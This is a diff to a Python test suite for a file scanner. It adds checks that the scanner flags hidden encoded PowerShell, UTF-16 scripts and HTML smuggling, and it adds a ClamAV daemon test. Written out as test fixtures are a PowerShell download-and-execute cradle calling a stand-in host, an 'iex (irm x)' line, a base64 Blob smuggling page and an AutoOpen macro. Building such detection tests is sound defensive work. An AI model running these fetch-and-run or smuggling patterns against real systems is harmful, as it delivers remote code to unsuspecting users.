@@ -10,10 +10,12 @@ images and fonts of Debian. Nothing of it is run.
 import base64
 import bz2
 import gzip
+import hashlib
 import io
 import json
 import lzma
 import os
+import pwd
 import shutil
 import signal
 import struct
@@ -21,6 +23,7 @@ import subprocess
 import sys
 import tarfile
 import tempfile
+import time
 import zipfile
 import zlib
 
@@ -362,6 +365,17 @@ def names():
     r, = inspect(write("act.pdf", pdf([b"<< /S /JavaScript /JS (app.alert(1)) >>",
                                        b"<< /Type /Catalog /Open#41ction 1 0 R >>"])))
     check("a PDF that acts", {"pdf-script", "pdf-acts-when-opened"} <= reasons(r), r)
+    order = base64.b64encode("Write-Host 1; IEX (New-Object Net.WebClient).DownloadString('http://x.example/a')"
+                             .encode("utf-16-le"))
+    r, = inspect(write("run.bat", b"powershell -w hidden -enc " + order + b"\r\n"))
+    check("an encoded order", {"script-obfuscated", "script-fetches-and-runs"} <= reasons(r) and
+          any(p["identified"] == "powershell" for p in r["parts"]), r)
+    r, = inspect(write("wide.ps1", "iex (irm x); iex (New-Object Net.WebClient).DownloadString('x')\r\n"
+                       .encode("utf-16")))
+    check("a script in UTF-16", "script-fetches-and-runs" in reasons(r), r)
+    r, = inspect(write("page.html", b"<html><script>var d=atob('" + base64.b64encode(zipped([("e.com", EICAR)]) * 8) +
+                       b"');a.href=URL.createObjectURL(new Blob([d]))</script></html>"))
+    check("a page that smuggles", "script-obfuscated" in reasons(r) and r["verdict"] == "malicious", r)
     macro = (b"Attribute VB_Name = \"M\"\r\nSub AutoOpen()\r\nCreateObject(\"WScript.Shell\").Run \"calc\"\r\n"
              b"End Sub\r\n")
     r, = inspect(write("m.doc", compound([("WordDocument", bytes(5000)), ("M", b"\1" + vba(macro))])))
@@ -378,7 +392,6 @@ def vba(text):
 def lists():
     os.makedirs("hospital/inspect/rules", exist_ok=True)
     shutil.copy(os.path.join(CONTENT, "..", "pilots", "turin", "hospital.yml"), "hospital/hospital.yml")
-    import hashlib
     write("hospital/inspect/block.txt", b"# known bad\n" + hashlib.md5(b"bad\n").hexdigest().encode() + b"  a test\n")
     write("hospital/inspect/allow.txt", hashlib.sha256(open("e.zip", "rb").read()).hexdigest().encode() + b" ours\n")
     write("hospital/inspect/rules/own.yar", b'rule own { meta: says = "of ours" weight = 50 strings: $a = "quux" '
@@ -417,6 +430,7 @@ def cells():
     for i in range(12):  # each level is hashed and searched
         slow = zipped([(f"{i}.zip", slow)], zipfile.ZIP_STORED)
     write("slow.zip", slow)
+    shutil.rmtree("hospital/inspect")
     write("hospital/limits.yml", b"limits:\n  file.seconds: 1\n")
     r = run(["slow.zip", "e.com"], "--json", "--hospital", "hospital")
     reports = [json.loads(x) for x in r.stdout.splitlines()]
@@ -441,6 +455,39 @@ def cells():
         check("what it holds", held == ["3", "4"], {"held": held})
 
 
+def antivirus():
+    """ClamAV's own daemon, which knows two files by signatures of ours."""
+    clamd = shutil.which("clamd") or "/usr/sbin/clamd"
+    if not os.path.exists(clamd):
+        print("clamd is not installed: what it says was not tried")
+        return
+    os.makedirs("signatures")
+    bad = write("known.bin", os.urandom(5000))
+    data = open(bad, "rb").read()
+    write("signatures/own.hdb", f"{hashlib.md5(data).hexdigest()}:{len(data)}:Ward.Test.Known\n".encode())
+    here = os.getcwd()
+    write("clamd.conf", f"LocalSocket {here}/clamd\nDatabaseDirectory {here}/signatures\nForeground yes\n"
+          f"StreamMaxLength 2M\nLogFile {here}/clamd.log\nUser {pwd.getpwuid(os.getuid()).pw_name}\n"
+          .encode())
+    p = subprocess.Popen([clamd, "-c", "clamd.conf"], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
+    try:
+        for _ in range(600):
+            if os.path.exists("clamd") or p.poll() is not None:
+                break
+            time.sleep(0.1)
+        large = write("large.bin", bytes(3 << 20))
+        r = [json.loads(x) for x in run([bad, write("k.zip", zipped([("k", data)])), "good.dcm", large], "--json",
+                                        "--clamd", "clamd").stdout.splitlines()]
+        check("ClamAV finds", "antivirus" in reasons(r[0]) and r[0]["clamav"] == "found" and
+              r[0]["verdict"] == "malicious" and "Ward.Test.Known" in r[0]["reasons"][0]["a"], r[0])
+        check("ClamAV finds in a ZIP", "antivirus" in reasons(r[1]), r[1])
+        check("ClamAV finds nothing", r[2]["clamav"] == "clean" and r[2]["verdict"] == "clean", r[2])
+        check("ClamAV takes no more", r[3]["clamav"] == "failed" and "cell-killed" not in reasons(r[3]), r[3])
+    finally:
+        p.terminate()
+        p.wait()
+
+
 def people():
     texts = {code: run(["mz.dcm"], "--lang", code).stdout for code in ("en", "fr", "it", "nl")}
     check("four languages", len(set(texts.values())) == 4 and "MZ" not in texts["fr"], texts)
@@ -454,7 +501,7 @@ def people():
 def main():
     with tempfile.TemporaryDirectory() as d:
         os.chdir(d)
-        for part in (eicar, medical, limits, names, lists, cells, people, sound):
+        for part in (eicar, medical, limits, names, lists, cells, antivirus, people, sound):
             part()
     print("\n".join(failed) if failed else "ok")
     sys.exit(1 if failed else 0)
